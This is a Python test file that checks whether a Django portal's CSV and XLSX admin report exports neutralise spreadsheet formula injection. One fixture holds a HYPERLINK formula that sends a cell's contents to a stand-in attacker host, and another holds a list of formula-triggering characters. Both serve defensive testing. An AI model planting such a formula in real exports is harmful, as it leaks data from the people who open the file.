"""What somebody typed is never calculated on an officer's computer."""

import csv
import io
from typing import Any

import openpyxl
import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from core.spreadsheets import inert
from search.models import MissedSearch
from tests.factories.core import Portal, make_standard_page

FORMULA = '=HYPERLINK("http://gia.example/?"&A1,"xem")'
DANGEROUS = "=+-@\t\r\n＝＋－＠"


@pytest.fixture
def _typed(bilingual: Portal) -> None:
    MissedSearch.objects.create(
        digest="x" * 64, text=FORMULA, language="vi", count=2, last_day="2026-03-02"
    )
    make_standard_page(bilingual.home, f"{FORMULA}\x0b")


def _cells(answer: Any, file_format: str) -> list[Any]:
    content = b"".join(answer.streaming_content)
    if file_format == "csv":
        return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("address", ["missed-searches", "aging-pages"])
@pytest.mark.usefixtures("_typed")
def test_an_export_holds_no_formula(admin_client: Client, address: str, file_format: str) -> None:
    answer = admin_client.get(f"/admin/reports/{address}/", {"export": file_format})
    assert answer.status_code == 200
    cells = _cells(answer, file_format)
    if file_format == "csv":
        assert f"'{FORMULA}" in [cell.rstrip("\x0b") for cell in cells]
        assert not [cell for cell in cells if cell.startswith(tuple(DANGEROUS))]
    else:
        assert FORMULA in [cell.value for cell in cells]
        assert not [cell for cell in cells if cell.data_type == "f"]


@given(st.text() | st.text(DANGEROUS))
def test_no_text_begins_like_a_formula_and_none_is_lost(text: str) -> None:
    assert not inert(text).startswith(tuple(DANGEROUS))
    assert inert(text).removeprefix("'" if inert(text) != text else "") == text
